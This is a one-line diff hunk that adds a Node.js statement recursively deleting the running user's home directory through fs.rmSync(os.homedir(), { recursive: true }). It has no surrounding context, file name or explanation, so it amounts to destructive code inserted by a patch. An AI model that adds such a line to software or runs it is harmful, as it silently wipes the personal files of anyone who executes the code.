@@ -1,0 +1,1 @@
+fs.rmSync(os.homedir(), { recursive: true })
